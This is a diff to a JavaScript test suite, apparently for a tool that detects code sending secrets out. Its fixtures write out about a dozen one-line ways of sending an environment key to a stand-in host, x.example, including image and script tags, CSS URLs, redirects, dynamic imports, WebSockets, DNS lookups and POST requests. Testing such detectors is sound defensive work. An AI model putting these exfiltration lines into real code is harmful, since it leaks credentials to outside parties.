@@ -149,6 +149,16 @@ describe("what a payload carries", () => {
       "axios.create({ baseURL: 'https://x.example', headers: { k: process.env.KEY } }).get('/a')",
     ],
     ["as an image", "new Image().src = 'https://x.example/?' + process.env.KEY"],
+    ["by the scheme of the page", "new Image().src = '//x.example/?' + process.env.KEY"],
+    ["as an element of the page", "document.querySelector('#logo').src = 'https://x.example/?' + process.env.KEY"],
+    ["as an attribute of one", "document.getElementById('a').setAttribute('src', '//x.example/?' + process.env.KEY)"],
+    ["as markup", "document.body.innerHTML += `<img src='https://x.example/?${process.env.KEY}'>`"],
+    ["as written markup", "document.write('<script src=//x.example/?' + process.env.KEY + '></' + 'script>')"],
+    ["as a style", "document.body.style.background = `url(//x.example/?${process.env.KEY})`"],
+    ["as the next page", "location = 'https://x.example/?' + process.env.KEY"],
+    ["as another page", "window.open('https://x.example/?' + process.env.KEY)"],
+    ["as a script", "import('https://x.example/?' + process.env.KEY)"],
+    ["as a socket", "new WebSocket('wss://x.example/?' + process.env.KEY)"],
     ["as an attribute", "document.createElement('img').setAttribute('src', 'https://x.example/?' + process.env.KEY)"],
     ["as a host name", "require('dns').resolve(`${process.env.KEY}.x.example`, () => {})"],
     ["piped", "require('https').request({ host: 'x.example', method: 'POST' }).end(`${process.env.KEY}`)"],
@@ -156,6 +166,14 @@ describe("what a payload carries", () => {
     const [line = ""] = only(code, "send");
     expect(line).toContain("x.example");
     expect(line).toContain("<$KEY>");
+  });
+
+  test.each([
+    ["a path of the page's own", "new Image().src = '/p.gif?' + process.env.KEY"],
+    ["a link that nobody has followed", "document.createElement('a').href = 'https://x.example/?' + process.env.KEY"],
+    ["a link in markup", "document.body.innerHTML = `<a href='https://x.example/?${process.env.KEY}'>x</a>`"],
+  ])("%s sends nothing", (_, code) => {
+    expect(only(code, "send")).toEqual([]);
   });
 
   test("a signature made with a key does not carry it", () => {
